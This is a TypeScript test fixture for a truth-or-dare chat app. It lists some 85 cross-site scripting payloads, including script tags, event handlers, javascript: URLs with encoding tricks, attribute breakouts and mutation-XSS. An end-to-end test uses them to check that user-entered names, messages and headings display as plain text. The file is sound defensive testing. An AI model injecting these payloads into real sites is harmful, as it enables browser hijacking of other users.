import { hasLetterOrDigit, visibleText } from '@truth-or-dare/room-protocol';
// Cross-site scripting vectors for xss-corpus.e2e.test.ts. Each one that could run code tries to
// call alert() (seen as a dialog) or to set window.__xss (read back by the test); the rest try to
// inject elements, attributes or URLs, or test that text is shown exactly as typed.
//
// Lengths matter: the API trims and limits (docs/api.md#limits) usernames to 24 characters, room names to 40,
// chat messages to 500 and blog headings to 200. Usernames and room names are compared
// case-insensitively, so no two payloads differ only by case.

export interface XssPayload {
  /** What the payload tries, for failure messages. */
  readonly label: string;
  readonly text: string;
}

export const LIMITS = { username: 24, roomName: 40, chatMessage: 500, blogHeading: 200 } as const;

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // Script elements and their filter evasions.
  { label: 'script tag setting the flag', text: '<script>__xss=1</script>' },
  { label: 'script tag with alert', text: '<script>alert(1)</script>' },
  { label: 'script inside svg', text: '<svg><script>alert(1)' },
  { label: 'nested script to survive one strip', text: '<scr<script>ipt>' },
  { label: 'double open bracket', text: '<<svg onload=alert(1)>' },
  { label: 'classic <<script> with comment', text: '<<script>alert(1)//<</script>' },
  { label: 'external script, protocol-relative', text: '<SCRIPT SRC=//xss.invalid/x.js></SCRIPT>' },

  // Elements with event handlers.
  { label: 'img onerror alert', text: '<img src=x onerror=alert(1)>' },
  { label: 'img onerror flag', text: '<img src=x onerror=__xss=1>' },
  { label: 'img with slashes for spaces', text: '<img/src/onerror=alert(1)>' },
  { label: 'img onerror with entity-encoded code', text: '<img src=x onerror=&#97;lert(1)>' },
  { label: 'svg onload', text: '<svg onload=alert(1)>' },
  { label: 'svg onload flag, slash separator', text: '<svg/onload=__xss=1>' },
  { label: 'svg onload with entity parentheses', text: '<svg onload=alert&#40;1&#41;>' },
  { label: 'body onload', text: '<body onload=alert(1)>' },
  { label: 'body onpageshow', text: '<body/onpageshow=alert(1)>' },
  { label: 'iframe onload', text: '<iframe onload=alert(1)>' },
  { label: 'details ontoggle (fires without interaction)', text: '<details open ontoggle=alert(1)>' },
  { label: 'video source onerror', text: '<video><source onerror=alert(1)>' },
  { label: 'audio onerror', text: '<audio src=x onerror=alert(1)>' },
  { label: 'input autofocus onfocus', text: '<input onfocus=alert(1) autofocus>' },
  { label: 'select autofocus onfocus', text: '<select autofocus onfocus=alert(1)>' },
  { label: 'marquee onstart', text: '<marquee onstart=alert(1)>' },
  { label: 'b onmouseover', text: '<b onmouseover=alert(1)>' },
  { label: 'custom element onclick', text: '<x onclick=alert(1)>click me</x>' },
  { label: 'svg animate onbegin', text: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  { label: 'isindex onerror', text: '<isindex type=image src=1 onerror=alert(1)>' },

  // javascript: and other dangerous URLs, in various encodings.
  { label: 'plain javascript: text', text: 'javascript:alert(1)' },
  { label: 'plain javascript: text setting the flag', text: 'javascript:__xss=1' },
  { label: 'javascript: link', text: '<a href=javascript:alert(1)>x</a>' },
  { label: 'javascript: link with a tab entity', text: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { label: 'javascript: link with a decimal entity', text: '<a href="&#106;avascript:alert(1)">x</a>' },
  { label: 'javascript: link with &colon;', text: '<a href="javascript&colon;alert(1)">x</a>' },
  { label: 'javascript: link with leading space and mixed case', text: '<a href=" JaVaScRiPt:__xss=1">x</a>' },
  { label: 'javascript: link with a null byte', text: '<a href="java\u0000script:alert(1)">x</a>' },
  { label: 'data:text/html link', text: '<a href="data:text/html,<script>alert(1)</script>">x</a>' },
  { label: 'vbscript: link', text: '<a href="vbscript:msgbox(1)">x</a>' },
  { label: 'iframe javascript: src', text: '<iframe src=javascript:alert(1)>' },
  { label: 'iframe srcdoc', text: '<iframe srcdoc="<script>parent.__xss=1</script>">' },
  { label: 'object javascript: data', text: '<object data=javascript:alert(1)>' },
  { label: 'embed javascript: src', text: '<embed src=javascript:alert(1)>' },
  { label: 'button formaction', text: '<button formaction=javascript:alert(1)>' },
  { label: 'form action', text: '<form action=javascript:alert(1)><button>go</button></form>' },
  { label: 'svg xlink:href', text: '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>' },
  { label: 'css url(javascript:)', text: '<div style="background:url(javascript:alert(1))">x</div>' },
  { label: 'meta refresh to javascript:', text: '<meta http-equiv=refresh content="0;url=javascript:alert(1)">' },
  { label: 'base href hijack', text: '<base href=//xss.invalid/>' },

  // Breaking out of attributes, raw-text elements and script data blocks.
  { label: 'double quote breakout', text: '"><svg onload=alert(1)>' },
  { label: 'single quote breakout', text: "'><svg onload=alert(1)>" },
  { label: 'double quote attribute injection', text: '" onfocus="alert(1)' },
  { label: 'single quote attribute injection', text: "' onfocus='__xss=1" },
  { label: 'backtick attribute value', text: '<img src=`x` onerror=alert(1)>' },
  { label: 'closing script breakout', text: '</script><script>alert(1)</script>' },
  { label: 'closing script, short', text: '</script><script>' },
  { label: 'closing script then img', text: '</script><img src=x onerror=alert(1)>' },
  { label: 'closing title breakout', text: '</title><img src=x onerror=alert(1)>' },
  { label: 'closing textarea breakout', text: '</textarea><svg onload=alert(1)>' },
  { label: 'closing style breakout', text: '</style><svg onload=alert(1)>' },
  { label: 'JSON line separators then script', text: '\u2028\u2029</script><script>alert(1)' },
  { label: 'JSON string breakout', text: '"}]}</script><script>__xss=1</script>' },

  // Mutation XSS: markup that changes meaning when parsed again.
  { label: 'math/style namespace confusion', text: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { label: 'noscript title confusion', text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { label: 'template content', text: '<template><img src=x onerror=alert(1)></template>' },
  { label: 'svg style confusion', text: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { label: 'comment hiding markup', text: '<!--<b onclick=alert(1)>' },
  { label: 'CDATA wrapper', text: '<![CDATA[<script>]]>' },
  { label: 'inline style element', text: '<style>*{color:red}' },

  // Unicode, bidi, invisible and null characters.
  { label: 'right-to-left override before svg', text: '\u202e<svg onload=alert(1)>' },
  { label: 'right-to-left override file name', text: 'cod\u202egnp.exe' },
  { label: 'null byte inside script', text: '<scr\u0000ipt>alert(1)' },
  { label: 'null byte before a tag', text: 'a\u0000<b onclick=alert(1)>' },
  { label: 'zero-width space in tag', text: '<\u200bscript>alert(1)' },
  { label: 'fullwidth angle brackets', text: '\uff1cscript\uff1ealert(1)' },
  { label: 'combining marks on a tag', text: '<s\u0301cript>__xss=1' },

  // Text that must stay text: escapes, encodings and templates.
  { label: 'already escaped markup', text: '&lt;script&gt;alert(1)' },
  { label: 'numeric character references', text: '&#60;script&#62;' },
  { label: 'percent-encoded script', text: '%3Cscript%3Ealert(1)' },
  { label: 'JSON unicode escapes as text', text: '\\u003cscript\\u003e' },
  { label: 'template literal', text: '${alert(1)}' },
  { label: 'Angular-style template', text: "{{constructor.constructor('alert(1)')()}}" },
  { label: 'mustache template', text: '{{7*7}}{{alert(1)}}' },

  // Strings that look like React's escape hatch.
  { label: '__html object literal', text: '{"__html":"<b>x</b>"}' },
  { label: '__html object with img', text: '{"__html":"<img src=x onerror=alert(1)>"}' },
  { label: 'dangerouslySetInnerHTML prop', text: "dangerouslySetInnerHTML={{__html:'<img src=x onerror=alert(1)>'}}" },
  {
    label: 'React element JSON with $$typeof',
    text: '{"$$typeof":"react.element","type":"img","props":{"src":"x","onError":"alert(1)"}}',
  },

  // The longest chat message: filler, then a payload at the very end.
  { label: '500 characters ending in a payload', text: `${'xss '.repeat(118)}<img src=x onerror=alert(1)>` },
];

/** How the API stores a username, room name or chat message: trimmed (String.prototype.trim). */
export function storedText(text: string): string {
  return text.trim();
}

/** How the API stores a blog heading: control characters become spaces, whitespace runs collapse, trimmed. */
export function storedHeading(text: string): string {
  return text
    .trim()
    .replace(/\p{Cc}/gu, ' ')
    .replace(/\s+/g, ' ')
    .trim();
}

/** How the API stores a username or room name (room-protocol's name rule): invisible characters removed, NFC, trimmed. */
export function storedName(text: string): string {
  return visibleText(text).trim();
}

/** The key under which the API compares usernames and room names. */
export function nameKey(text: string): string {
  return storedText(text).normalize('NFC').toLowerCase();
}

/**
 * Names must keep a letter or digit once invisible characters are gone (the others are refused,
 * as the name tests show), and two payloads that differ only by an invisible character are one
 * name: the first of them stands for both.
 */
function namePayloads(limit: number): XssPayload[] {
  const seen = new Set<string>();
  return XSS_PAYLOADS.filter((payload) => {
    const name = storedName(payload.text);
    const key = name.toLowerCase();
    if (!hasLetterOrDigit(name) || name.length > limit || seen.has(key)) return false;
    seen.add(key);
    return true;
  });
}
export const USERNAME_PAYLOADS = namePayloads(LIMITS.username);
export const ROOM_NAME_PAYLOADS = namePayloads(LIMITS.roomName);
export const CHAT_PAYLOADS = XSS_PAYLOADS.filter((payload) => storedText(payload.text).length <= LIMITS.chatMessage);
export const HEADING_PAYLOADS = XSS_PAYLOADS.filter(
  (payload) => storedHeading(payload.text).length <= LIMITS.blogHeading,
);
